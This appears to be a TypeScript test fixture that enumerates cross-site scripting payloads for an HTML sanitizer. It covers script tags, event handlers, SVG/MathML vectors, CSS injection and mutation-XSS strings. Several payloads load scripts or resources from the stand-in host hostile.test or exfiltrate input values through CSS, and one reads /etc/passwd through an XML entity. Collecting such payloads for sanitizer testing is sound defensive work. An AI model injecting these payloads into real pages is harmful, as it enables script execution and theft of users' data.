// Hostile markup for hostile-payloads.ts. It would become part of a page, in every spelling that
// browsers accept.

/** Combines each carrier with each core. */
export const across = (carriers: string[], cores: string[]) =>
  cores.flatMap((core) => carriers.map((carrier) => carrier.replace("¶", () => core)));

export const scripts = [
  "<script>ran(§)</script>",
  "<SCRIPT>ran(§)</SCRIPT>",
  "<ScRiPt >ran(§)</sCrIpT >",
  "<script\n>ran(§)</script\n>",
  "<script/§>ran(§)</script>",
  "<script src=//hostile.test/§.js>ran(§)</script>",
  '<script src="https://hostile.test/§.js" defer></script> ran(§)',
  "<script type=module>import('//hostile.test/ran(§)')</script>",
  "<script type=text/javascript>ran(§)//",
  "<script>ran(§)",
  "<<script>ran(§)//<</script>",
  "<scr<script>ipt>ran(§)</scr</script>ipt>",
  '"><script>ran(§)</script>',
  "'><script>ran(§)</script>",
  "</p></div></main><script>ran(§)</script>",
  "</textarea><script>ran(§)</script>",
  "</title><script>ran(§)</script>",
  "</style><script>ran(§)</script>",
  "</script><script>ran(§)</script>",
  "-->\n<script>ran(§)</script>",
  "]]><script>ran(§)</script>",
  "<script>/* ရပြီ */ ran(§)</script>",
  "မင်္ဂလာပါ<script>ran(§)</script>ကျေးဇူးပါ",
  "&lt;script&gt;ran(§)&lt;/script&gt;",
  "&#60;script&#62;ran(§)&#60;/script&#62;",
  "%3Cscript%3Eran(§)%3C/script%3E",
  "\\u003cscript\\u003eran(§)\\u003c/script\\u003e",
  "＜script＞ran(§)＜/script＞",
];

export const handlers = across(
  [
    "<img src=x ¶>",
    '<a tabindex=1 autofocus ¶ href="#">go</a>',
    "<input autofocus ¶>",
    "<details open ¶><summary>more</summary></details>",
    "<video src=x ¶></video>",
  ],
  [
    "onerror=ran(§)",
    'onload="ran(§)"',
    "onfocus='ran(§)'",
    "oNtOgGlE=ran(§)",
    "onpointerenter\n=\nran(§)",
    "onanimationstart=ran`§` title=ran(§)",
  ],
).concat([
  "<body onload=ran(§)>",
  "<img/src/onerror=ran(§)>",
  '<img src="x"onerror="ran(§)"',
  "<p onclick=ran(§)>ဒီမှာ နှိပ်ပါ</p>",
  '" autofocus onfocus="ran(§)',
  "' onmouseover='ran(§)",
  "x` onerror=`ran(§)",
  "<button popovertarget=x onbeforetoggle=ran(§)>b</button><i popover id=x>i</i>",
]);

export const drawings = [
  "<svg onload=ran(§)>",
  "<svg/onload=ran(§)//",
  "<svg><script>ran(§)</script></svg>",
  "<svg><script href=//hostile.test/§.js>ran(§)</script></svg>",
  "<svg><a xlink:href='javascript:ran(§)'><text y=20>go</text></a></svg>",
  "<svg><animate onbegin=ran(§) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:ran(§) /></svg>",
  "<svg><use href='//hostile.test/§.svg#ran(§)'/></svg>",
  "<svg><image href=https://hostile.test/§.png onerror=ran(§)></image></svg>",
  "<svg><foreignObject><img src=x onerror=ran(§)></foreignObject></svg>",
  "<svg><style>@import '//hostile.test/ran(§)';</style></svg>",
  "<math href=javascript:ran(§)>go</math>",
  "<math><mtext><a href=javascript:ran(§)>go</a></mtext></math>",
  "<math><maction actiontype=statusline xlink:href=javascript:ran(§)>go</maction></math>",
  "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='ran(§)'/>",
  "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>ran(§) &x;</svg>",
];

export const styles = [
  "<style>body{background:url(//hostile.test/ran(§))}</style>",
  "<style>@import '//hostile.test/ran(§).css';</style>",
  "<p style='position:fixed;inset:0;background:url(//hostile.test/ran(§))'>",
  "<link rel=stylesheet href=//hostile.test/ran(§).css>",
  "red;background:url(//hostile.test/ran(§))",
  "}*{display:none}/*ran(§)*/",
  "x{width:expression(ran(§))}",
  "-moz-binding:url(//hostile.test/x.xml#ran(§))",
  "</style><img src=x onerror=ran(§)>",
  "input[value^=a]{background:url(//hostile.test/ran(§))}",
  "@font-face{font-family:x;src:url(//hostile.test/ran(§))}",
  "<i class='fixed inset-0 z-50' data-theme=x>ran(§)</i>",
];

export const mutations = [
  "<noscript><p title='</noscript><img src=x onerror=ran(§)>'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=ran(§)>",
  "<svg></p><style><a id='</style><img src=x onerror=ran(§)>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(§)>",
  "<table><td><svg><desc><td><img src=x onerror=ran(§)>",
  "<template><script>ran(§)</script></template>",
  "<select><template><style><!--</style><a rel='--></style><img src onerror=ran(§)>'>",
  "<title><a title='</title><img src=x onerror=ran(§)>'>",
  "<xmp><p title='</xmp><img src=x onerror=ran(§)>'>",
  "<textarea><img title='</textarea><svg onload=ran(§)>'>",
  "<p/a=`<img src=x onerror=ran(§)>`>",
  "<svg><![CDATA[><img src=x onerror=ran(§)>]]>",
  "<!--><img src=x onerror=ran(§)>",
  "<a href='x`<b>`onclick=ran(§)'>",
];

export const elements = [
  "<iframe src=javascript:ran(§)></iframe>",
  "<iframe srcdoc='<script>ran(§)</script>'></iframe>",
  "<iframe src=https://hostile.test/ran(§)>",
  "<object data=javascript:ran(§)></object>",
  "<object data=//hostile.test/§.swf type=application/pdf>ran(§)</object>",
  "<embed src=//hostile.test/§>ran(§)",
  "<base href=//hostile.test/ran(§)/>",
  "<form action=//hostile.test/§><button>ran(§)</button></form>",
  "<form id=f§></form><button form=f§ formaction=javascript:ran(§)>go</button>",
  "<meta http-equiv=refresh content='0;url=//hostile.test/ran(§)'>",
  "<link rel=dns-prefetch href=//hostile.test> ran(§)",
  "<link rel=prerender href=//hostile.test/ran(§)>",
  "<audio src=//hostile.test/§.mp3 autoplay>ran(§)</audio>",
  "<video poster=//hostile.test/ran(§).png></video>",
  "<img srcset='//hostile.test/ran(§).png 1x'>",
  "<picture><source srcset=//hostile.test/§.png><img alt='ran(§)'></picture>",
  "<a href=//hostile.test ping=//hostile.test/ran(§)>go</a>",
  "<x-element is=script>ran(§)</x-element>",
];
